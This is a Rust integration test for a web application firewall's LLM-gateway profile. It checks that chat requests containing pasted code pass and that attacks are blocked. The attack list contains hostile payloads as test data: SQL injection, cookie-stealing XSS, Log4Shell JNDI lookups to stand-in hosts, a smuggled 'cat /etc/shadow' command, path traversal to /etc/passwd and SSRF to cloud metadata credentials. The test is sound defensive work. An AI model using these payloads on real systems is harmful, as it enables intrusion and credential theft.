//! The `llm` profile on the LiteLLM route: developers paste code, SQL, HTML and shell into
//! prompts, and those requests must pass (the bar: at most 1 in 200 refused), while attacks
//! in the parts that matter (query, headers, structural JSON fields, URLs in messages) are caught.

use rampart_integration::*;
use serde_json::{json, Value};

/// What developers paste into a chat: written for this test, one snippet per kind.
const SNIPPETS: &[&str] = &[
    "Why is this slow?\n```sql\nSELECT u.id, u.email, COUNT(o.id) AS orders FROM users u LEFT JOIN orders o ON o.user_id = u.id WHERE o.created_at > NOW() - INTERVAL '7 days' GROUP BY u.id UNION SELECT id, email, 0 FROM admins;\n```",
    "My login code builds `query = \"SELECT * FROM users WHERE name = '\" + name + \"' AND pw = '\" + pw + \"'\"` and someone typed ' OR '1'='1 as the name and got in. How do I fix it with prepared statements?",
    "Review this deploy script:\n```bash\n#!/bin/bash\nset -euo pipefail\nfor f in /var/log/app/*.log; do gzip -9 \"$f\"; done\nrm -rf /tmp/build && mkdir -p /tmp/build\ncurl -fsSL https://get.example.com/install.sh | sh\nsudo systemctl restart app\n```",
    "```python\nimport os, subprocess\nresult = subprocess.run(['ls', '-la', '/etc'], capture_output=True)\nprint(result.stdout.decode())\nos.system('cat /etc/passwd | grep root')\n```\nIs os.system unsafe here?",
    "Fix my page: <html><head><script src=\"app.js\"></script></head><body onload=\"init()\"><img src=\"logo.png\" onerror=\"this.style.display='none'\"><a href=\"javascript:void(0)\" onclick=\"toggle()\">menu</a></body></html>",
    "Legacy PHP I inherited:\n<?php\n$conn = mysqli_connect('localhost', 'root', '');\n$id = $_GET['id'];\n$r = mysqli_query($conn, \"SELECT * FROM posts WHERE id = $id\");\neval($_POST['code']);\nsystem('whoami');\n?>\nWhat are the vulnerabilities?",
    "In Java I call Runtime.getRuntime().exec(\"ls\") and new ProcessBuilder(\"bash\", \"-c\", cmd).start(); also java.lang.reflect.Method m = clazz.getMethod(\"run\"). How do I sandbox this?",
    "Our logs contain ${jndi:ldap://attacker.example/a} in the User-Agent field. We run log4j 2.14.1: are we vulnerable and what should we upgrade to?",
    "Windows batch help:\n```bat\npowershell -ExecutionPolicy Bypass -File .\\deploy.ps1\nfor /f \"tokens=*\" %%i in ('dir /b *.txt') do echo %%i\nif exist C:\\temp\\x.txt del C:\\temp\\x.txt\nnet user admin /active:yes\n```",
    "Why does open('../../etc/passwd') work in my Flask app when the user sends ?file=../../etc/passwd? I thought send_from_directory was safe.",
    "In Jinja2 I write {{ user.name }} and {% for item in items %}{{ item }}{% endfor %}. A tester sent {{7*7}} and the page showed 49. Is that SSTI?",
    "nginx config review:\n```nginx\nlocation /api/ {\n  proxy_pass http://127.0.0.1:8000;\n  proxy_set_header Host $host;\n  proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n}\n```",
    "Dockerfile:\n```dockerfile\nFROM python:3.11-slim\nRUN apt-get update && apt-get install -y curl gcc && rm -rf /var/lib/apt/lists/*\nCOPY . /app\nWORKDIR /app\nCMD [\"python\", \"-m\", \"uvicorn\", \"main:app\", \"--host\", \"0.0.0.0\"]\n```",
    "Go: cmd := exec.Command(\"sh\", \"-c\", userInput); out, err := cmd.CombinedOutput(). How do I avoid shell injection?",
    "```c\n#include <stdlib.h>\nint main(int argc, char **argv) { char buf[64]; sprintf(buf, \"ping -c 1 %s\", argv[1]); return system(buf); }\n```\nWhat's wrong with this?",
    "Translate to Python: curl -X POST https://api.example.com/v1/items -H 'Content-Type: application/json' -H 'Authorization: Bearer $TOKEN' -d '{\"name\":\"widget\",\"qty\":3}'",
    "This JavaScript throws: document.getElementById('out').innerHTML = '<b>' + userInput + '</b>'; alert(document.cookie); eval(code); How do I escape safely?",
    "Stack trace:\nTraceback (most recent call last):\n  File \"/usr/lib/python3/site-packages/app/db.py\", line 42, in query\n    cursor.execute(sql)\npsycopg2.errors.SyntaxError: syntax error at or near \"UNION\"",
    "Regex for emails? I have ^[a-zA-Z0-9._%+-]+@[a-zA-Z0-9.-]+\\.[a-zA-Z]{2,}$ and it fails on user+tag@mail.example.co.uk.",
    "XML from our SOAP service: <?xml version=\"1.0\"?><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><GetUser><id>42</id></GetUser></soap:Body></soap:Envelope>",
    "crontab -e shows: */5 * * * * /usr/bin/python3 /opt/jobs/sync.py >> /var/log/sync.log 2>&1 and 0 3 * * * /bin/bash /opt/backup.sh. Why doesn't the second run?",
    "Kubernetes: kubectl exec -it pod/api-7d9 -- /bin/sh -c 'env | grep DATABASE'; kubectl logs deploy/api --since=1h | grep -i error",
    "Excel: =IF(AND(A2>0,B2<>\"\"),VLOOKUP(B2,Sheet2!A:C,3,FALSE),\"\") returns #N/A, why?",
    "Rust: let out = std::process::Command::new(\"git\").args([\"log\", \"--oneline\", \"-n\", \"5\"]).output()?; println!(\"{}\", String::from_utf8_lossy(&out.stdout));",
    "Explain this Makefile rule: build: ; cd src && $(MAKE) all && cp bin/app ../dist/ && chmod +x ../dist/app",
    "We are moving to IMDSv2. Today our tasks run curl http://169.254.169.254/latest/meta-data/iam/security-credentials/ without a token; what changes with PUT http://169.254.169.254/latest/api/token?",
];

const MODELS: &[&str] = &["gpt-4o", "claude-3-5-sonnet-20241022"];

/// One request shape of the OpenAI-compatible API, filled with a snippet.
fn shapes(model: &str, text: &str) -> Vec<(&'static str, Value)> {
    let tools = json!([{ "type": "function", "function": {
        "name": "run_query",
        "description": "Runs a read-only SQL query such as SELECT * FROM users WHERE id = 1 and returns rows",
        "parameters": { "type": "object", "properties": {
            "sql": { "type": "string", "description": "the SQL, e.g. SELECT name FROM t; never DROP TABLE" },
            "limit": { "type": "integer", "description": "rows to return" } }, "required": ["sql"] } } }]);
    vec![
        (
            "/v1/chat/completions",
            json!({ "model": model, "messages": [{ "role": "user", "content": text }] }),
        ),
        (
            "/v1/chat/completions",
            json!({ "model": model, "temperature": 0.2, "max_tokens": 800, "messages": [
            { "role": "system", "content": "You are a senior engineer. Answer with code; never run `rm -rf /` or curl | sh." },
            { "role": "user", "content": text } ] }),
        ),
        (
            "/v1/chat/completions",
            json!({ "model": model, "messages": [
            { "role": "user", "content": "Can you help with some code?" },
            { "role": "assistant", "content": "Sure, paste it. For example: SELECT 1; or <script>console.log(1)</script>" },
            { "role": "user", "content": text } ] }),
        ),
        (
            "/v1/chat/completions",
            json!({ "model": model, "messages": [{ "role": "user", "content": [
            { "type": "text", "text": text },
            { "type": "image_url", "image_url": { "url": "https://images.example.com/diagrams/architecture.png", "detail": "high" } } ] }] }),
        ),
        (
            "/v1/chat/completions",
            json!({ "model": model, "tools": tools, "tool_choice": "auto", "messages": [{ "role": "user", "content": text }] }),
        ),
        (
            "/v1/chat/completions",
            json!({ "model": model, "tools": tools, "messages": [
            { "role": "user", "content": "How many users signed up this week?" },
            { "role": "assistant", "content": null, "tool_calls": [{ "id": "call_1", "type": "function", "function": {
                "name": "run_query", "arguments": "{\"sql\": \"SELECT COUNT(*) FROM users WHERE created_at > now() - interval '7 days' UNION ALL SELECT 0\"}" } }] },
            { "role": "tool", "tool_call_id": "call_1", "content": text } ] }),
        ),
        (
            "/v1/chat/completions",
            json!({ "model": model, "stream": true, "stream_options": { "include_usage": true }, "messages": [{ "role": "user", "content": text }] }),
        ),
        (
            "/v1/chat/completions",
            json!({ "model": model, "response_format": { "type": "json_object" }, "user": "team-platform-42", "messages": [
            { "role": "system", "content": "Reply in JSON: {\"answer\": string}" }, { "role": "user", "content": text } ] }),
        ),
        (
            "/v1/embeddings",
            json!({ "model": "text-embedding-3-small", "input": [text, "SELECT * FROM docs"] }),
        ),
        (
            "/v1/completions",
            json!({ "model": "gpt-3.5-turbo-instruct", "prompt": text, "max_tokens": 256 }),
        ),
    ]
}

/// The headers the official OpenAI Python client sends.
fn sdk_request(path: &str, body: &Value, extra: &[(&str, &str)]) -> Vec<u8> {
    let body = body.to_string();
    let mut raw = format!(
        "POST {path} HTTP/1.1\r\nHost: gateway.test\r\nAccept: application/json\r\nContent-Type: application/json\r\nUser-Agent: OpenAI/Python 1.54.0\r\nX-Stainless-Lang: python\r\nX-Stainless-Package-Version: 1.54.0\r\nX-Stainless-OS: Linux\r\nX-Stainless-Arch: x64\r\nX-Stainless-Runtime: CPython\r\nX-Stainless-Runtime-Version: 3.11.7\r\nx-stainless-retry-count: 0\r\nAuthorization: Bearer sk-test-0123456789abcdef\r\nX-Origin-Verify: {ORIGIN_SECRET}\r\nContent-Length: {}\r\nConnection: close\r\n",
        body.len()
    );
    for (k, v) in extra {
        raw.push_str(&format!("{k}: {v}\r\n"));
    }
    raw.push_str("\r\n");
    raw.push_str(&body);
    raw.into_bytes()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pasted_code_passes_and_attacks_in_the_parts_that_matter_are_caught() {
    let up = SeedUpstreams::start(1).await;
    let rampart = Rampart::start(&seed_config(&up, ""), SEED_LISTENERS).await;
    let web = rampart.addr("web");

    let (mut sent, mut refused) = (0usize, Vec::new());
    for model in MODELS {
        for (i, text) in SNIPPETS.iter().enumerate() {
            for (j, (path, body)) in shapes(model, text).into_iter().enumerate() {
                let r = send_raw(web, EXTERNAL_PEER, &sdk_request(path, &body, &[]))
                    .await
                    .expect("answer");
                sent += 1;
                if r.status != 200 {
                    refused.push(format!(
                        "{model} snippet {i} shape {j}: {} {}",
                        r.status,
                        r.json()["rule"]
                    ));
                }
            }
        }
    }
    println!(
        "benign chat requests with pasted code: {} refused of {sent}",
        refused.len()
    );
    for r in &refused {
        println!("  refused: {r}");
    }
    assert!(sent >= 500, "{sent}");
    assert!(
        refused.len() * 200 <= sent,
        "more than 1 in 200 benign requests refused: {refused:#?}"
    );

    // Attacks where they matter on an LLM route.
    let chat = |extra: Value| {
        let mut body =
            json!({ "model": "gpt-4o", "messages": [{ "role": "user", "content": "hello" }] });
        if let (Some(b), Some(e)) = (body.as_object_mut(), extra.as_object()) {
            for (k, v) in e {
                b.insert(k.clone(), v.clone());
            }
        }
        body
    };
    struct Attack {
        what: &'static str,
        path: &'static str,
        body: Value,
        headers: Vec<(&'static str, &'static str)>,
    }
    let attack = |what, path, body, headers| Attack {
        what,
        path,
        body,
        headers,
    };
    let attacks = vec![
        attack(
            "SQLi in the query",
            "/v1/chat/completions?debug=1'%20UNION%20SELECT%20api_key%20FROM%20keys--",
            chat(json!({})),
            vec![],
        ),
        attack(
            "scanner user agent",
            "/v1/chat/completions",
            chat(json!({})),
            vec![
                ("X-Scanner", "x"),
                (
                    "Referer",
                    "https://x.example/?q=1 union select password from users",
                ),
            ],
        ),
        attack(
            "Log4Shell in a header",
            "/v1/chat/completions",
            chat(json!({})),
            vec![("X-Api-Version", "${jndi:ldap://x.example/a}")],
        ),
        attack(
            "SQLi in model",
            "/v1/chat/completions",
            chat(json!({ "model": "gpt-4o'; DROP TABLE users;--" })),
            vec![],
        ),
        attack(
            "XSS in user",
            "/v1/chat/completions",
            chat(json!({ "user": "<script>alert(document.cookie)</script>" })),
            vec![],
        ),
        attack(
            "Log4Shell in stop",
            "/v1/chat/completions",
            chat(json!({ "stop": ["${jndi:ldap://x.example/a}"] })),
            vec![],
        ),
        attack(
            "traversal in metadata",
            "/v1/chat/completions",
            chat(json!({ "metadata": { "file": "../../../../etc/passwd" } })),
            vec![],
        ),
        attack(
            "command in tool_choice",
            "/v1/chat/completions",
            chat(
                json!({ "tool_choice": { "type": "function", "function": { "name": "x;cat /etc/shadow" } } }),
            ),
            vec![],
        ),
        attack(
            "metadata SSRF in image_url",
            "/v1/chat/completions",
            json!({ "model": "gpt-4o", "messages": [{ "role": "user", "content": [
            { "type": "text", "text": "what is in this picture?" },
            { "type": "image_url", "image_url": { "url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/" } } ] }] }),
            vec![],
        ),
        attack(
            "loopback SSRF in image_url",
            "/v1/chat/completions",
            json!({ "model": "gpt-4o", "messages": [{ "role": "user", "content": [
            { "type": "image_url", "image_url": { "url": "http://127.0.0.1:6379/" } } ] }] }),
            vec![],
        ),
        attack(
            "file URL in image_url",
            "/v1/chat/completions",
            json!({ "model": "gpt-4o", "messages": [{ "role": "user", "content": [
            { "type": "image_url", "image_url": { "url": "file:///etc/passwd" } } ] }] }),
            vec![],
        ),
        // A metadata URL in a prompt's text is not an attack here: nothing behind rampart
        // fetches URLs from prose (LiteLLM fetches only image_url, file and source parts,
        // caught above), so the built-in profile's `prose_exclude_rules` leave SSRF out. The
        // IMDSv2 question among the snippets passes; plugins/tests/waf_traces.rs shows a
        // profile that judges them.
    ];
    let before = up.total_requests();
    let mut missed = Vec::new();
    for Attack {
        what,
        path,
        body,
        headers,
    } in &attacks
    {
        let mut raw = sdk_request(path, body, headers);
        if *what == "scanner user agent" {
            // The SDK's agent replaced by a scanner's.
            raw = String::from_utf8_lossy(&raw)
                .replace(
                    "OpenAI/Python 1.54.0",
                    "sqlmap/1.7.2#stable (https://sqlmap.org)",
                )
                .into_bytes();
        }
        let r = send_raw(web, EXTERNAL_PEER, &raw).await.expect("answer");
        if r.status != 403 {
            missed.push(format!("{what}: {}", r.status));
        } else {
            println!("caught {what}: {}", r.json()["rule"]);
        }
    }
    assert!(missed.is_empty(), "attacks not caught: {missed:#?}");
    assert_eq!(
        up.total_requests(),
        before,
        "an attack reached the upstream"
    );
}
